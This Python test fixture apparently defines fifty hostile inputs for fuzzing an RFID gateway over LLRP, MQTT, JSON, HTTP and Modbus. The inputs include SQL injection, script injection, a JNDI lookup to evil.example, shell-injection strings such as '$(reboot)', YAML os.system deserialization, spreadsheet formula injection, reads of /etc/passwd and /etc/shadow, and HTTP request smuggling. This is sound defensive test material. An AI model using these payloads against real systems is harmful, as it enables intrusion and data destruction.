"""The fifty inputs with which somebody attacks: what they are, and the bytes of each.

Every payload is tried at every way in (`tests.security.table`), as it is: as the memory of a tag, as a card number, on
a serial line, in a message, in a file, in a request. What only one way can carry (an LLRP length, a TLS version) has no
bytes here, and the table names the test that brings it.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from struct import pack
from typing import Final

LONGEST_TOPIC_BYTES: Final = 65_535
"""MQTT 3.1.1, section 1.5.3: a string has two bytes for its length."""
DEPTH: Final = 100_000
LARGEST_INT64: Final = 2**63 - 1


@dataclass(frozen=True)
class Attack:
    """One of the fifty.

    Attributes:
        payloads: its bytes, whatever carries them; empty where it is no input but a deed.
    """

    number: int
    name: str
    payloads: tuple[bytes, ...] = ()

    def texts(self) -> list[str]:
        """Its payloads as text; bytes that are no UTF-8 become halves of surrogate pairs, as hostile JSON has them."""
        return [payload.decode("utf-8", "surrogateescape") for payload in self.payloads]


def tlv(kind: int, value: bytes = b"", length: int | None = None) -> bytes:
    """An LLRP parameter, whose length may lie."""
    return pack(">HH", kind, 4 + len(value) if length is None else length) + value


def message(kind: int, body: bytes = b"", length: int | None = None) -> bytes:
    """An LLRP 1.0.1 message, whose length may lie."""
    return pack(">HII", 1 << 10 | kind, 10 + len(body) if length is None else length, 7) + body


def epc_data(epc: bytes, bits: int | None = None) -> bytes:
    """An EPCData parameter, whose number of bits may lie."""
    return tlv(241, pack(">H", 8 * len(epc) if bits is None else bits) + epc)


def report(*parameters: bytes) -> bytes:
    """An RO_ACCESS_REPORT of one tag."""
    return message(61, tlv(240, b"".join(parameters)))


def nested(depth: int) -> bytes:
    """TLV parameters inside each other, as deep as a length of 16 bits lets them be."""
    found = b""
    for _ in range(depth):
        found = tlv(240, found)
    return found


def batch(fields: bytes = b"") -> bytes:
    """The JSON of a batch of reads that is right but for what is added to it."""
    head = b'{"kind":"reads","gateway":"edge-1","epoch":1,"sequence":1,"device":"gate-1"'
    return head + b',"received_at_us":1790000000000000,"reads":[]' + fields + b"}"


def timed(number: object) -> bytes:
    """A batch that was heard, and holds a read that was seen, at this time."""
    return (
        b'{"kind":"reads","gateway":"edge-1","epoch":1,"sequence":1,"device":"gate-1","received_at_us":%b,"reads":['
        b'{"epc":"E280","antenna_port":1,"read_point":"lane-1","seen_at_us":%b}]}'
    ) % ((str(number).encode(),) * 2)


def sequenced(number: int, epoch: int = 1) -> bytes:
    """A batch of this place."""
    return batch().replace(b'"epoch":1,"sequence":1', b'"epoch":%d,"sequence":%d' % (epoch, number))


ATTACKS: Final = (
    Attack(1, "a line of line protocol", (b"x value=1\nother,admin=1 v=1",)),
    Attack(2, "CR LF", (b"\r\n", b"a\r\nSet-Cookie: canary=1\r\n\r\nb")),
    Attack(3, "comma, blank and = where a tag value is", (b"a,b c=d",)),
    Attack(4, "a backslash at the end", (b"ends with \\", b"\\")),
    Attack(5, "a quote in a string field", (b'quote"field="', b'"')),
    Attack(6, "NUL", (b"\x00\x00", b"before\x00after")),
    Attack(7, "half a surrogate pair, and bytes that are no UTF-8", (b"\xed\xa0\x80", b"\xff\xfe", b"\x80abc")),
    Attack(8, "overlong UTF-8", (b"\xc0\xaf", b"\xe0\x80\xaf", b"\xf0\x80\x80\xaf")),
    Attack(9, "right-to-left override", ("\u202egnp.exe".encode(), "\u2066\u200b\ufeff".encode())),
    Attack(10, "64 KiB of one value", (b"A" * (64 << 10),)),
    Attack(11, "an empty EPC", (b"", report(epc_data(b"")), report(tlv(241)))),
    Attack(12, "an EPC whose bits are no whole words", (b"\xb1", b"\xb0\x34\x25", report(epc_data(b"\x31\x80", 9)))),
    Attack(13, "a length beyond the frame", (report(tlv(241, b"\0\x60ab", 0xFFFF)), message(61, b"", 4_096))),
    Attack(14, "a length of 2^32 - 1", (message(61, b"\0" * 16, 0xFFFFFFFF), b"\xff" * 12)),
    Attack(15, "parameters 10,000 deep", (message(61, nested(10_000)),)),
    Attack(16, "a parameter of no length", (message(61, tlv(240, b"", 0) * 50), report(tlv(1023, b"", 0)))),
    Attack(17, "TV where TLV belongs, and the reverse", (report(b"\x8d" + b"\0" * 5), report(tlv(13, b"\0" * 12)))),
    Attack(18, "topic +", (b"+", b"+/reads", b"gate-1/+")),
    Attack(19, "topic #", (b"#", b"gate-1/#")),
    Attack(20, "topic a/../../x and $SYS/", (b"a/../../x", b"$SYS/broker", b"/", b"//x")),
    Attack(21, "a topic above 65,535 bytes", (b"x" * (LONGEST_TOPIC_BYTES + 1),)),
    Attack(22, "SQL", (b"'; DROP TABLE reads;--", b"' OR '1'='1")),
    Attack(23, "a script", (b"<script>alert(1)</script>",)),
    Attack(24, "an image with a handler", (b'"><img src=x onerror=alert(1)>',)),
    Attack(25, "a look-up in a log", (b"${jndi:ldap://evil.example/x}",)),
    Attack(26, "templates", (b"{{7*7}}", b"{0.__class__}", b"{e.subject.__class__}")),
    Attack(27, "printf", (b"%n%s%n%s", b"%(name)s %d")),
    Attack(28, "orders to a terminal", (b"\x1b[2J\x1b[31m", b"\x1b]0;title\x07", "\u009b2J".encode())),
    Attack(29, "another line or field of the journal", (b"\nPRIORITY=0\nMESSAGE=x", b"<0>emerg", b"\n<0>x")),
    Attack(30, "a formula in a spreadsheet", (b"=cmd|' /C calc'!A0", b"+1+1", b"-1+1", b"@SUM(1)", b"\t=1")),
    Attack(31, "a shell", (b"$(reboot)", b"`reboot`", b"; reboot", b"| reboot")),
    Attack(32, "YAML objects and laughs", (b"!!python/object/apply:os.system [id]", b"a: &a [*a,*a]\nb: &b [*a,*a]")),
    Attack(
        33,
        "JSON: deep, NaN, 1e999, a key twice, a number without end",
        (
            b"[" * DEPTH,
            b'{"a":' * DEPTH,
            batch(b',"clock_offset_us":' + b"[" * DEPTH),
            timed("NaN"),
            timed("1e999"),
            batch(b',"kind":"tick","watched":[]'),
            batch(b',"clock_offset_us":' + b"9" * 5_000),
        ),
    ),
    Attack(
        34, "times 0, 2^63 - 1, negative, in the future", tuple(map(timed, (0, LARGEST_INT64, -1, -(2**63), 2**53)))
    ),
    Attack(
        35,
        "a sequence that wraps",
        (sequenced(LARGEST_INT64), sequenced(2**64), sequenced(0), sequenced(-1), sequenced(1, LARGEST_INT64)),
    ),
    Attack(36, "an old signed command again"),
    Attack(37, "an order to open, retained"),
    Attack(38, "a second session under the same client id"),
    Attack(
        39,
        "a reader that refuses the connection for ever",
        tuple(message(63, tlv(246, tlv(128, b"\0" * 8) + tlv(256, pack(">H", n)))) for n in range(1, 5)),
    ),
    Attack(40, "a flood of KEEPALIVE", (message(62) * 1_000,)),
    Attack(41, "100,000 distinct EPCs"),
    Attack(42, "another reader at the address of ours"),
    Attack(43, "TLS: an old version, expired, another name"),
    Attack(
        44, "a way out of a directory in a name", (b"../../../../etc/passwd", b"..", b"/etc/shadow", b"..%2f..%2fx")
    ),
    Attack(45, "a regular expression that explodes", (b"(a+)+$" + b"a" * 200 + b"!", b'"a".matches("(a+)+$")')),
    Attack(
        46,
        "lengths that lie, of Modbus and DLMS",
        (
            b"\x01\x03\xff" + b"\0" * 4,
            b"\x00\x01\x00\x00\xff\xff\x01\x03",
            b"\x00\x01\x00\x01\x00\x01\xff\xff\xc4",
            b"\xc4\x01\xc1\x00\x01\x84\xff\xff\xff\xff",
            b"\x7e\xaf\xff\x03\x21",
            b"\x68\xff\xff\x68",
        ),
    ),
    Attack(
        47,
        "a request hidden in another, and a header without end",
        (
            b"GET / HTTP/1.1\r\nContent-Length: 44\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /metrics",
            b"GET /metrics HTTP/1.1\r\nX: " + b"x" * 100_000,
        ),
    ),
    Attack(48, "a symbolic link in the state directory"),
    Attack(49, "a clock that goes back, to revive a command that has expired"),
    Attack(50, "a line break and a quote in a label", (b'\n} 1\n# HELP x "label"', b'x"} 1\nup 0')),
)


def inputs() -> Iterator[tuple[int, int, bytes]]:
    """Every payload with the number of its attack and its place there."""
    for attack in ATTACKS:
        for place, payload in enumerate(attack.payloads):
            yield attack.number, place, payload


INPUTS: Final = tuple(inputs())
IDS: Final = tuple(f"{number}-{place}" for number, place, _ in INPUTS)
PAYLOADS: Final = tuple(payload for _, _, payload in INPUTS)
